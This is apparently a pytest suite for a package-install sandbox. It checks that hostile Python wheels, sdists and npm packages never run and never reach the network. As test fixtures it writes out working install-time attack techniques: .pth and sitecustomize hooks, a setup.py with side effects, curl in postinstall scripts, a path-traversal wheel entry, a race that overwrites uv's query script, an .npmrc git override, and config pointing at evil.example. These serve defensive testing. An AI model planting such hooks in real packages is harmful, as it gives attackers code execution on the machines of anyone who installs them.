"""Hostile packages that are installed by name: nothing of them runs, and the sandbox stays usable."""

from __future__ import annotations

import shutil
import subprocess

import pytest

import cellwall
from conftest import need
from registries import build_sdist, serve_registries, write_registry_config

pytestmark = [pytest.mark.slow, pytest.mark.requirement("PKG-1", "PKG-3")]

CANARY = "/canary"
STOLEN = "stolen-zebra"
# Replaces the script by which uv queries an interpreter, as soon as the script is there.
EXCHANGE_QUERY = f"""
import glob, os
payload = "import urllib.request; open('/workspace/ran', 'w').close(); "
payload += "urllib.request.urlopen('https://pypi.org/simple/{STOLEN}/')"
with open("/workspace/ready", "w") as file:
    file.write("ready")
while not os.path.exists("/workspace/ran"):
    for folder in glob.glob("/workspace/.cellwall-install/*/.tmp*/python"):
        try:
            with open(folder + "/get_interpreter_info.py", "w") as file:
                file.write(payload)
        except OSError:
            pass
"""
# The dependency is a repository whose .npmrc names a program of the workspace as git.
GIT_DEPENDENCY = f"""
set -e
mkfifo done
cat > program <<'EOF'
#!/bin/sh
touch /workspace/ran
node -e "require('https').get('https://registry.npmjs.org/{STOLEN}').on('error', () => 0)"
echo > /workspace/done
EOF
chmod +x program
commit() {{ git init -q; git add -A; git -c user.name=a -c user.email=a commit -qm a; }}
mkdir inner outer
cd inner; echo '{{"name": "inner", "version": "1.0.0"}}' > package.json; commit
cd ../outer; echo git=/workspace/program > .npmrc
echo '{{"name": "outer", "version": "1.0.0", "scripts": {{"prepare": "true"}},
       "dependencies": {{"inner": "git+file:///workspace/inner"}}}}' > package.json; commit
cd ..; echo '{{"dependencies": {{"outer": "git+file:///workspace/outer"}}}}' > package.json
"""


def phone_home(base, place):
    """JavaScript that writes how its request ended."""
    write = f"require('fs').writeFileSync('{place}', e.code || 'reached')"
    done = f"const done = e => {{ {write}; process.exit() }};"
    return f"{done} require('http').get('{base}{CANARY}', done).on('error', done)"


@pytest.fixture(scope="module")
def registries():
    with serve_registries() as served:
        call = f"import urllib.request; urllib.request.urlopen('{served.base}{CANARY}')"
        touch = "open('/workspace/ran', 'w').close()"
        served.add_wheel("zebra-atlas", "1.0")
        large = {f"zebra_large/m{n}.py": f"x = {n}\n" * 2000 for n in range(40)}
        served.add_wheel("zebra-large", "1.0", large)
        served.add_wheel("pth-zebra", "1.0", {"pth_zebra.py": "", "x.pth": f"{call}; {touch}\n"})
        served.add_wheel("start-zebra", "1.0", {"sitecustomize.py": f"{touch}\n{call}\n"})
        served.add_wheel("path-zebra", "1.0", {"../../../../workspace/ran": "x"})
        served.add_wheel("swap-zebra", "1.0", served=b"PK other bytes")
        setup = f"{touch}\n{call}\nfrom setuptools import setup; setup(name='source-zebra')\n"
        served.add_file("source-zebra", *build_sdist("source-zebra", "1.0", {"setup.py": setup}))
        served.add_wheel("deep-zebra", "1.0", requires=["pth-zebra", "zebra-atlas"])
        script = f"touch /workspace/ran; curl {served.base}{CANARY}"
        served.add_npm("zoo-keeper", "1.0.0", scripts={"postinstall": script})
        files = {"index.js": "", "install.js": phone_home(served.base, "/workspace/ran")}
        scripts = {"postinstall": "node install.js"}
        served.add_npm("esbuild", "1.0.0", files, scripts=scripts)
        served.add_npm("zoo-sign", "1.0.0")
        served.add_npm("zoo-visitor", "1.0.0", dependencies={"zoo-keeper": "1"})
        yield served


@pytest.fixture
def config(tmp_path, registries):
    return write_registry_config(
        tmp_path / "config.toml", registries.base, 'without_feed = "allow"'
    )


def test_no_hostile_package_is_installed_and_none_runs(config, registries, path):
    # The proxy refuses them, outside of both kinds of cells; what pip imports could differ.
    hostile = ("pth", "start", "path", "swap", "source", "deep") if path == "cold" else ("deep",)
    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
        # A workspace can bring modules that pip imports, and settings for another index.
        for name in ("pip.py", "sitecustomize.py", "urllib3.py"):
            sbx.files.write(name, "open('/workspace/ran', 'w').close()\n")
        sbx.files.write(".config/pip/pip.conf", "[global]\nindex-url = http://evil.example/\n")
        for each in hostile:
            done = sbx.packages.install(f"{each}-zebra")
            assert done.outcome.status == "failed", (each, done)
            assert done.installed == ()
            assert done.refused or each == "swap", each
        # The control: the sandbox and its environment are whole.
        done = sbx.packages.install("zebra-atlas").raise_for_status()
        assert [each.name for each in done.installed] == ["zebra-atlas"]
        assert sbx.run_code("import zebra_atlas; zebra_atlas.VERSION").value == "1.0"
        listed = sbx.commands.run("ls -A; ls .local/lib/*/site-packages").stdout
        assert not {"ran", ".cellwall-install", "pth_zebra.py", "x.pth"} & set(listed.split())
        assert "pth" not in sbx.files.read("pylock.toml")
    assert CANARY not in [path for _, path in registries.seen]


@pytest.mark.only_on("cold", reason="the package manager and the proxy are the same on both")
def test_an_install_script_of_npm_does_not_run(config, registries):
    need(shutil.which("npm"), "npm")
    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
        sbx.files.write(".npmrc", "ignore-scripts=false\nregistry=http://evil.example/\n")
        for name in ("zoo-keeper", "zoo-visitor"):
            done = sbx.packages.install(name, ecosystem="npm")
            assert done.outcome.status == "failed"
            assert "postinstall" in done.refused[0]
        listed = sbx.commands.run("ls -A").stdout.split()
        assert not {"ran", "node_modules", "package-lock.json", ".cellwall-install"} & set(listed)
    assert CANARY not in [path for _, path in registries.seen]


@pytest.mark.only_on("cold", reason="the package manager and the proxy are the same on both")
def test_an_install_script_of_a_widely_used_package_runs_later_and_without_network(
    config, registries, tmp_path
):
    need(shutil.which("npm"), "npm")
    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
        done = sbx.packages.install("esbuild", ecosystem="npm").raise_for_status()
        assert [each.name for each in done.installed] == ["esbuild"]
        assert "ran" not in sbx.commands.run("ls -A").stdout.split()
        sbx.commands.run("npm rebuild --offline")
        assert sbx.files.read("ran") == "ECONNREFUSED"
    assert CANARY not in [path for _, path in registries.seen]
    # The control: the same code outside reaches the canary.
    code = phone_home(registries.base, tmp_path / "ran")
    subprocess.run(["node", "-e", code], check=True, timeout=60)
    assert (tmp_path / "ran").read_text() == "reached"
    assert CANARY in [path for _, path in registries.seen]
    registries.seen.clear()


@pytest.mark.only_on("cold", reason="where links lead is decided by the mount, as everywhere")
def test_a_link_in_the_place_of_the_environment_leads_nowhere(config, tmp_path):
    """Code inside, or a hostile repository, plants links where packages go."""
    outside, project = tmp_path / "outside", tmp_path / "project"
    outside.mkdir()
    project.mkdir()
    (project / ".cellwall-packages").symlink_to(outside)
    (project / "pylock.toml").symlink_to(outside / "lock")
    with cellwall.Sandbox.create(config=config, timeout=120, workspace=f"{project}:rw") as sbx:
        sbx.packages.install("zebra-atlas")
    assert list(outside.iterdir()) == []


@pytest.mark.only_on("cold", reason="the files are those of the same workspace on both")
@pytest.mark.parametrize("tmp_bytes", ["64m", "256k"])
def test_processes_of_a_sandbox_cannot_run_code_in_the_cell_with_the_registry(
    config, registries, tmp_bytes
):
    """The cache of uv is in the /tmp of its cell; where /tmp is too small, in the workspace."""
    with open(config, "a", encoding="utf-8") as file:
        file.write(f'\n[sandbox]\ntmp_bytes = "{tmp_bytes}"\n')
    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
        sbx.files.write("exchange.py", EXCHANGE_QUERY)
        # The control: the process is there before the installation begins.
        start = "mkfifo ready; nohup python3 exchange.py >log 2>&1 & cat ready"
        assert sbx.commands.run(start).stdout == "ready"
        done = sbx.packages.install("zebra-large").raise_for_status()
        assert [each.name for each in done.installed] == ["zebra-large"]
        assert not sbx.files.exists("ran")
        assert not sbx.commands.run("ls -A .cellwall-install").stdout
    assert not [path for _, path in registries.seen if STOLEN in path]


@pytest.mark.only_on("cold", reason="the package manager and the proxy are the same on both")
def test_a_git_dependency_of_the_workspace_runs_no_program_with_the_registry(config, registries):
    need(shutil.which("npm") and shutil.which("git"), "npm and git")
    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
        assert sbx.commands.run(GIT_DEPENDENCY).exit_code == 0
        done = sbx.packages.install("zoo-sign", ecosystem="npm")
        assert done.outcome.status == "failed"
        assert not sbx.files.exists("ran")
        assert not [path for _, path in registries.seen if STOLEN in path]
        # The control: npm in the sandbox, which has no network, runs the program.
        sbx.commands.run("npm install --ignore-scripts >npm.log 2>&1 & read x < done")
        assert sbx.files.exists("ran")
